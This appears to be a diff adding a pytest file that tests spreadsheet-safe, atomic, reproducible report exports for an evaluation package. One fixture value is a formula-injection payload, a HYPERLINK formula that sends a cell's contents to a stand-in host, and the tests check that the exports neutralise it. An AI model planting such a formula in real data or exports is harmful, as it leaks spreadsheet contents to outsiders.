@@ -1,0 +1,166 @@
+"""Reports as a release (issue 14): one load, any validated export, byte-identical, spreadsheet-safe, atomic."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import os
+import re
+import shutil
+import subprocess
+import sys
+
+import pandas as pd
+import pytest
+from conftest import ROOT, SYNTHETIC
+
+from dapp_eval.report import render_release
+from dapp_eval.report.format import publish_value, spreadsheet_safe
+
+FORMULA_SITE = '=HYPERLINK("http://x.example/?"&B3,"Open")'
+
+
+def _csvs(html: str):
+    for name, data in re.findall(r'download="([^"]+)" href="data:text/csv;base64,([^"]+)"', html):
+        yield name, base64.b64decode(data).decode("utf-8")
+
+
+def test_published_values_are_rounded_to_what_the_page_shows():
+    # the precision rules of the page: p to 3 decimals (floor 0.001), |x| < 1 to 3 significant digits, else 1 dp
+    assert publish_value(0.123456789) == 0.123
+    assert publish_value(0.000123456) == 0.000123
+    assert publish_value(12.349999) == 12.3
+    assert publish_value(41.0) == 41 and isinstance(publish_value(41.0), int)
+    assert publish_value(0.0004, "p_value") == "<0.001"
+    assert publish_value(0.04567, "p_adjusted") == 0.046
+    # a last-digit difference from another BLAS kernel disappears
+    assert publish_value(0.31234567891) == publish_value(0.31234567893)
+
+
+def test_formula_text_is_quoted_and_numbers_stay_numbers():
+    assert spreadsheet_safe(FORMULA_SITE) == "'" + FORMULA_SITE
+    for s in ("+1", "@SUM(A1)", "\tx", "\rx", "-x"):
+        assert spreadsheet_safe(s) == "'" + s
+    assert spreadsheet_safe("-3.5") == "-3.5" and spreadsheet_safe(-3.5) == -3.5 and spreadsheet_safe(7) == 7
+    assert spreadsheet_safe("<10") == "<10" and spreadsheet_safe("[c]") == "[c]"
+
+
+@pytest.fixture(scope="module")
+def mapped_export(tmp_path_factory):
+    """data_synthetic as a provider might send it: own column names (mapped) and a formula-like site name."""
+    folder = tmp_path_factory.mktemp("export") / "export"
+    shutil.copytree(SYNTHETIC, folder)
+    sites = pd.read_csv(folder / "sites.csv", dtype=str)
+    sites.loc[sites["site_id"] == "S05", "site_name"] = FORMULA_SITE
+    sites.rename(columns={"site_name": "Service name"}).to_csv(folder / "sites.csv", index=False)
+    ref = (folder / "referrals.csv").read_text(encoding="utf-8")
+    (folder / "referrals.csv").write_text(ref.replace("referral_id,participant_id", "Ref No,Client", 1),
+                                          encoding="utf-8")
+    cmap = folder.parent / "map.yaml"
+    cmap.write_text("tables:\n  sites:\n    columns:\n      Service name: site_name\n"
+                    "  referrals:\n    columns:\n      Ref No: referral_id\n      Client: participant_id\n",
+                    encoding="utf-8")
+    return folder, cmap
+
+
+def test_column_mapped_export_renders_quietly_and_is_spreadsheet_safe(mapped_export, tmp_path, capsys):
+    from dapp_eval.cli import main
+    from dapp_eval.errors import DataValidationError
+
+    folder, cmap = mapped_export
+    with pytest.raises(DataValidationError):  # without the map the export does not validate ...
+        render_release(folder, tmp_path / "nomap", sites=["S05"], overall=False, progress=False)
+    assert not (tmp_path / "nomap").exists()
+    out = tmp_path / "out"
+    # ... with it, it renders (the CLI, as a user would run it)
+    assert main(["report", str(folder), "--out", str(out), "--column-map", str(cmap), "--site", "S05",
+                 "--quiet"]) == 0
+    cap = capsys.readouterr()
+    assert cap.err == "", cap.err  # no kernel, setuptools or library warnings
+    assert [ln.rsplit("/", 1)[-1] for ln in cap.out.split()] == [
+        "report_all_sites.html", "report_s05.html", "tables.xlsx", "index.html"]
+    page = (out / "report_s05.html").read_text(encoding="utf-8")
+    assert "=HYPERLINK(&#34;http://x.example/?&#34;&amp;B3,&#34;Open&#34;)" in page  # shown as text, escaped
+    # every CSV download: the site name is quoted, so no spreadsheet runs it
+    site_cells = 0
+    for name, text in _csvs(page):
+        df = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+        for c in df.columns:
+            for v in df[c]:
+                assert not v.startswith(("=", "+", "@", "\t", "\r")), f"{name} column {c}: {v!r}"
+                assert not (v.startswith("-") and not re.fullmatch(r"-[\d.,]+", v)), f"{name} column {c}: {v!r}"
+                site_cells += v == "'" + FORMULA_SITE
+    assert site_cells >= 1  # the site name is a column of the comparison-of-sites table
+    from openpyxl import load_workbook
+
+    wb = load_workbook(out / "tables.xlsx")
+    texts, numbers = [], 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows(values_only=True):
+            for v in row:
+                if isinstance(v, str):
+                    texts.append(v)
+                numbers += isinstance(v, (int, float))
+    assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)
+    assert "'" + FORMULA_SITE in texts
+    assert numbers > 1000  # counts and estimates are numbers in the workbook, not text
+
+
+def test_workbook_lists_every_published_table(tmp_path):
+    from openpyxl import load_workbook
+
+    paths = render_release(SYNTHETIC, tmp_path / "out", sites=["S03"], overall=False, progress=False)
+    page = paths[0].read_text(encoding="utf-8")
+    n_tables = len(list(_csvs(page)))
+    wb = load_workbook(paths[1])
+    assert wb.sheetnames[0] == "Contents" and len(wb.sheetnames) == n_tables + 1
+    contents = list(wb["Contents"].iter_rows(min_row=5, values_only=True))
+    assert len(contents) == n_tables
+    assert contents[0][2] == "Participant flow: people at each stage" and contents[0][4] == "s03_funnel_counts.csv"
+    # a table sheet holds the same cells as its CSV download (title row, header row, then rows)
+    first_csv = pd.read_csv(io.StringIO(next(iter(_csvs(page)))[1]), dtype=str, keep_default_na=False)
+    sheet = list(wb["T001"].iter_rows(min_row=2, values_only=True))
+    assert list(sheet[0]) == list(first_csv.columns)
+    assert len(sheet) - 1 == len(first_csv)
+
+
+def test_an_error_leaves_the_output_folder_untouched(tmp_path, monkeypatch):
+    from dapp_eval.report import render as render_mod
+
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "index.html").write_text("previous release", encoding="utf-8")
+    calls = []
+
+    def failing(page):
+        calls.append(page.site)
+        if len(calls) == 2:
+            raise RuntimeError("disk full")
+        return "<html></html>"
+
+    monkeypatch.setattr(render_mod, "render_page", failing)
+    with pytest.raises(RuntimeError, match="disk full"):
+        render_release(SYNTHETIC, out, sites=["S01", "S02"], overall=False, progress=False)
+    assert [p.name for p in out.iterdir()] == ["index.html"]
+    assert (out / "index.html").read_text(encoding="utf-8") == "previous release"
+    assert [p.name for p in tmp_path.iterdir()] == ["out"], "the temporary release folder was left behind"
+
+
+_RENDER = ("import sys; from dapp_eval.report import render_release; "
+           "render_release(sys.argv[1], sys.argv[2], sites=['S05'], overall=False, progress=False)")
+
+
+def test_release_is_byte_identical_across_thread_counts(tmp_path):
+    """Two processes with 1 and 2 BLAS/OpenMP threads write the same bytes (numbers rounded at the source)."""
+    digests = []
+    for threads in ("1", "2"):
+        env = dict(os.environ, OMP_NUM_THREADS=threads, OPENBLAS_NUM_THREADS=threads, MKL_NUM_THREADS=threads)
+        out = tmp_path / f"t{threads}"
+        res = subprocess.run([sys.executable, "-c", _RENDER, str(SYNTHETIC), str(out)], env=env, cwd=ROOT,
+                             capture_output=True, text=True, timeout=600)
+        assert res.returncode == 0, res.stderr[-3000:]
+        assert res.stderr == "", res.stderr[-3000:]  # and nothing on the terminal
+        digests.append({p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(out.iterdir())})
+    assert digests[0] == digests[1]
+    assert set(digests[0]) == {"report_s05.html", "tables.xlsx", "index.html"}
